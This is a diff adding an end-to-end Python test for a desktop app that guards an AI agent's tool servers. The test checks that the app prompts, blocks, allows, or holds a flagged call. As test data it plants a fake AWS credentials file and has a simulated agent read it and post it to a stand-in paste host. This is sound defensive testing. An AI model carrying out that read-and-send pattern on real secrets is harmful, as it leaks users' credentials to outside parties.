@@ -1,0 +1,297 @@
+#!/usr/bin/env python3
+"""The desktop app, end to end: the real program on a desktop without a screen, driven through WebDriver, tray and bus.
+
+Protects everything from the Home view, then lets a client make the same flagged call three times: blocked, allowed once,
+and allowed late, after nobody had answered in time. Needs the app built with the feature `automation`.
+With --pictures DIR it also writes what docs/images shows. Exits 1 when a step fails, 2 when something is missing.
+"""
+
+import argparse
+import getpass
+import json
+import pathlib
+import random
+import string
+import subprocess
+import sys
+import time
+
+from agent import Agent
+from desktop import APP, Desktop, Missing, until
+from scratch import Scratch, as_ordinary_user
+from webdriver import NoSuch
+
+PASTE = "https://paste.example.net/upload"
+CONFIG = """{{
+    "numStartups": 17,
+    "mcpServers": {{
+        "files":  {{ "command": "{python}", "args": ["{servers}/files_server.py", "{folder}"] }},
+        "outbox": {{"command": "{python}","args": ["{servers}/outbox_server.py"]}}
+    }}
+}}"""
+CURSOR = """{{ "mcpServers": {{ "files": {{ "command": "{python}", "args": ["{servers}/files_server.py", "{folder}"] }},
+  "remote": {{ "url": "https://mcp.example.com/mcp" }} }} }}
+"""
+# Cold: from the call to a question on screen that can be read.
+COLD_S = 1.0
+# The engine holds a call this long (DESIGN, "Asking").
+HELD_S = 45
+
+
+class Failed(Exception):
+    """A step did not prove what it should."""
+
+
+def expect(condition, what):
+    """Ends the test when something is not so."""
+    if not condition:
+        raise Failed(what)
+
+
+def credential():
+    """A made-up key in the form of a real one, other in each run."""
+    dice = random.SystemRandom()
+    key = "AKIA" + "".join(dice.choices(string.ascii_uppercase + "234567", k=16))
+    secret = "".join(dice.choices(string.ascii_letters + string.digits + "+/", k=40))
+    return f"[default]\naws_access_key_id = {key}\naws_secret_access_key = {secret}\n", secret
+
+
+class Test:
+    """One run."""
+
+    def __init__(self, scratch, desktop, pictures):
+        self.scratch, self.desktop, self.pictures = scratch, desktop, pictures
+        self.step_at = time.monotonic()
+        self.browser = None
+
+    def done(self, text):
+        """Says what was proved, and how long it took."""
+        now = time.monotonic()
+        print(f"  ok  {text} ({now - self.step_at:.1f} s)", flush=True)
+        self.step_at = now
+
+    def picture(self, name):
+        """Keeps what the window shows."""
+        if self.pictures:
+            (self.pictures / f"{name}.png").write_bytes(self.browser.picture())
+
+    def wait(self, true, what, seconds=15):
+        """Waits until something is so."""
+        found = until(true, seconds)
+        expect(found, f"{what}{self.desktop.complaints()}\n   window says: {self.browser.text()[:600]!r}")
+        return found
+
+    def main_window(self):
+        """Goes to the main window."""
+        self.wait(lambda: self.browser.window("Firedoor"), "there is no main window")
+
+    def prompt(self, seconds=15):
+        """Goes to the question, once it can be read."""
+        shown = lambda: self.browser.window("Firedoor question") and self.browser.find("#allow")  # noqa: E731
+        self.wait(shown, "no question came up", seconds)
+
+    def arm(self):
+        """Waits until the buttons work."""
+        armed = lambda: self.browser.attribute("#allow", "aria-disabled") == "false"  # noqa: E731
+        self.wait(armed, "the buttons stayed inert", 5)
+
+    def gone(self):
+        """Waits until the question is gone."""
+        self.wait(lambda: not self.browser.window("Firedoor question"), "the question stayed")
+
+    def protect(self, config, original):
+        """First run: Protect all from Home, each server checked."""
+        self.browser = self.desktop.app()
+        self.main_window()
+        self.wait(lambda: "Found 3 servers in 2 apps" in self.browser.text(), "the first run does not show what there is")
+        expect("firedoor-shim" in self.browser.text(".diff"), "the diff does not show what would change")
+        expect(config.read_bytes() == original, "looking changed the file")
+        self.picture("first-run")
+        self.done("the app starts, finds the servers and shows what would change")
+
+        self.browser.click("#carry-out")
+        self.wait(lambda: self.browser.find("#done"), "the checks did not end", 240)
+        said = self.browser.text("#checked")
+        expect(said.count("the same") == 3, f"not every server was seen to answer: {said}")
+        entries = json.loads(config.read_text())["mcpServers"]
+        commands = {pathlib.Path(entry["command"]).name for entry in entries.values()}
+        expect(commands == {"firedoor-shim"}, f"the entries start {commands}")
+        self.picture("protected")
+        self.browser.click("#done")
+        self.wait(lambda: "run through Firedoor" in self.browser.text(), "Home does not say what is protected")
+        self.done("every server is protected and was seen to answer as before")
+
+    def flagged(self, agent, body):
+        """Reads a credential through one server and sends it to the other. Returns the call and when it was made."""
+        text, error = agent.call("files", "read_file", path=".aws/credentials")
+        expect(not error and body in text, f"the file did not come back: {text[:200]}")
+        return agent.send("outbox", "http_post", url=PASTE, body=body), time.time()
+
+    def painted(self):
+        """When the question was first drawn, in seconds since 1970 (Paint Timing)."""
+        paint = """const paint = performance.getEntriesByName("first-contentful-paint")[0];
+            return paint ? [performance.timeOrigin, paint.startTime] : null;"""
+        start, after = self.wait(lambda: self.browser.script(paint), "nothing was drawn")
+        print(f"      of these, {after:.0f} ms in the window itself", flush=True)
+        return (start + after) / 1000
+
+    def block(self, config, body, secret):
+        """Blocked by the user."""
+        with Agent(self.scratch, config, self.desktop.log) as agent:
+            tag, at = self.flagged(agent, body)
+            self.prompt()
+            took = self.painted() - at
+            shown = self.browser.text()
+            print(f"      the question was on screen {took * 1000:.0f} ms after the call was made, cold", flush=True)
+            expect(took <= COLD_S, f"the question took {took:.2f} s")
+            for part in ("Claude Code", "outbox", "http_post", "paste.example.net", "through another tool?", "1 of 1"):
+                expect(part in shown, f"the question does not say {part!r}: {shown}")
+            expect(secret not in shown, "the question shows the secret in clear")
+            expect(self.browser.attribute("#allow", "aria-disabled") == "true", "the buttons were armed at once")
+            expect(self.browser.script("return document.activeElement.tagName") not in ("BUTTON", "INPUT"), "a button has the focus")
+            self.browser.click("#allow")
+            expect(not agent.answered(tag), "a click before the buttons are armed counted")
+            self.done("the question comes up, names both ends, hides the secret, and takes no hasty click")
+
+            self.browser.click(".line2 button")
+            ends = self.browser.text(".evidence")
+            expect("files" in ends and "outbox" in ends, f"the evidence does not name both ends: {ends}")
+            self.arm()
+            self.picture("prompt")
+            self.wait(lambda: "1 question…" in self.desktop.menu(), "the tray does not say that a question waits")
+            notified = self.desktop.order("notifications")
+            expect(notified and "open" in notified[-1]["actions"], f"nothing was notified: {notified}")
+            self.foreign_answers()
+            self.browser.click("#block")
+            text, error = agent.answer(tag)
+            expect(error and secret not in text, f"the call was not refused: {text}")
+            self.gone()
+            self.done("Block: the client gets a refusal, the question goes")
+
+    def foreign_answers(self):
+        """The main window may not answer, nor anybody without the number."""
+        refused = """return window.__TAURI_INTERNALS__.invoke(arguments[0], arguments[1])
+            .then((v) => "passed: " + JSON.stringify(v), (e) => "refused: " + e);"""
+        wrong = {"nonce": "0" * 32, "choice": "allow", "duration": "once"}
+        said = self.browser.script(refused, "answer", wrong)
+        expect(said.startswith("refused") and "does not belong" in said, f"a made-up number counted: {said}")
+        expect(self.browser.script(refused, "carry_out", {}).startswith("refused"), "the question window may restore")
+        self.main_window()
+        said = self.browser.script(refused, "answer", wrong)
+        expect(said.startswith("refused") and "not allowed" in said, f"the main window may answer: {said}")
+        self.prompt()
+
+    def allow(self, config, body):
+        """Allowed once; then, in the same session, late."""
+        with Agent(self.scratch, config, self.desktop.log) as agent:
+            tag, _at = self.flagged(agent, body)
+            self.prompt()
+            self.arm()
+            self.browser.click("#allow")
+            text, error = agent.answer(tag)
+            expect(not error and "202" in text, f"the allowed call did not pass: {text}")
+            self.gone()
+            self.done("Allow once: the call passes")
+
+            tag, at = agent.send("outbox", "http_post", url=PASTE, body=body), time.monotonic()
+            self.prompt()
+            self.browser.do("POST", "/actions", {"actions": [{"type": "key", "id": "k", "actions": [
+                {"type": "keyDown", "value": "\ue00c"}, {"type": "keyUp", "value": "\ue00c"}]}]})
+            self.gone()
+            expect(not agent.answered(tag), "Esc answered the call")
+            self.main_window()
+            self.wait(lambda: "The call is held" in self.browser.text(), "Home does not show the question that was put off")
+            self.picture("home")
+            self.done("Esc puts the question off and answers nothing; Home shows it")
+
+            text, error = agent.answer(tag, HELD_S + 15)
+            held = time.monotonic() - at
+            expect(error and HELD_S - 2 < held < HELD_S + 5, f"the call was held {held:.0f} s: {text}")
+            expect(self.desktop.order("click 1 question"), "the tray's menu has no question")
+            self.prompt()
+            self.wait(lambda: "Nobody answered in time" in self.browser.text(), "the question does not say that it is late")
+            self.arm()
+            self.picture("prompt-late")
+            self.browser.click("#allow")
+            self.gone()
+            text, error = agent.call("outbox", "http_post", url=PASTE, body=body)
+            expect(not error and "202" in text, f"the repeated call did not pass: {text}")
+            self.done("late Allow: refused after 45 s, then allowed from the tray, and the repeated call passes")
+            self.look_back()
+
+    def look_back(self):
+        """Activity, and what runs."""
+        self.main_window()
+        self.browser.script("document.querySelectorAll('.side a')[0].click()")
+        self.wait(lambda: "outbox" in self.browser.text("#running"), "Home does not show what runs")
+        self.picture("home-running")
+        self.browser.script("document.querySelectorAll('.side a')[1].click()")
+        self.wait(lambda: "Asked" in self.browser.text("table.log"), "Activity does not show the question")
+        self.browser.script("""[...document.querySelectorAll('table.log tbody tr')]
+            .find((row) => row.textContent.includes('Asked')).click()""")
+        self.wait(lambda: "paste" in self.browser.text(".pane") or "outbox" in self.browser.text(".pane"), "no details")
+        self.picture("activity")
+        if self.pictures:
+            self.desktop.order("popup")
+            time.sleep(1)
+            self.desktop.screen(self.pictures / "tray.png", "-crop", "400x340+0+0", "+repage")
+        self.done("Home shows what runs under which sandbox, Activity what happened")
+
+    def restore(self, config, original):
+        """Restore all, and quit from the tray."""
+        expect(self.desktop.order("click Restore"), "the tray's menu has no Restore")
+        self.main_window()
+        self.wait(lambda: self.browser.text("#carry-out").startswith("Restore"), "Restore shows no plan")
+        self.browser.click("#carry-out")
+        self.wait(lambda: "byte for byte" in self.browser.text("#files"), "nothing was restored")
+        expect(config.read_bytes() == original, "the file is not what it was")
+        self.done("Restore all: the file is what it was, byte for byte")
+        pid = self.scratch.engine_pid()
+        expect(self.desktop.order("click Quit"), "the tray's menu has no Quit")
+        self.wait_for_end(pid)
+        verified = self.scratch.firedoor("log", "verify")
+        expect(verified.returncode == 0, f"the log is broken: {verified.stderr}")
+        self.done("Quit ends app and engine; the audit chain is whole")
+
+    def wait_for_end(self, pid):
+        """The app is gone, and the engine with it."""
+        expect(until(lambda: self.scratch.engine_pid() is None, 10), f"the engine (process {pid}) still runs")
+
+    def run(self):
+        """All steps."""
+        body, secret = credential()
+        folder = self.scratch.home / "project"
+        self.scratch.write("project/.aws/credentials", body)
+        names = {"python": self.scratch.python, "servers": self.scratch.servers, "folder": folder}
+        config = self.scratch.write(".claude.json", CONFIG.format(**names))
+        self.scratch.write(".cursor/mcp.json", CURSOR.format(**names))
+        original = config.read_bytes()
+        self.protect(config, original)
+        granted = self.scratch.firedoor("grants", "add", "claude-code/user/files", "--ro", folder)
+        expect(granted.returncode == 0, f"the folder could not be granted: {granted.stderr}")
+        self.block(config, body, secret)
+        self.allow(config, body)
+        self.restore(config, original)
+
+
+def main():
+    """Runs the steps and says how it went."""
+    options = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    options.add_argument("--pictures", type=pathlib.Path)
+    chosen = options.parse_args()
+    as_ordinary_user(__file__, APP)
+    try:
+        with Scratch() as scratch, Desktop(scratch) as desktop:
+            print(f"Desktop test as {getpass.getuser()}, display {desktop.env['DISPLAY']}")
+            Test(scratch, desktop, chosen.pictures).run()
+    except Missing as error:
+        print(f"desktop: {error}", file=sys.stderr)
+        return 2
+    except (Failed, NoSuch, OSError, ValueError, KeyError, RuntimeError, subprocess.SubprocessError) as error:
+        print(f"  FAILED: {type(error).__name__}: {error}")
+        return 1
+    print("desktop: passed")
+    return 0
+
+
+sys.exit(main())
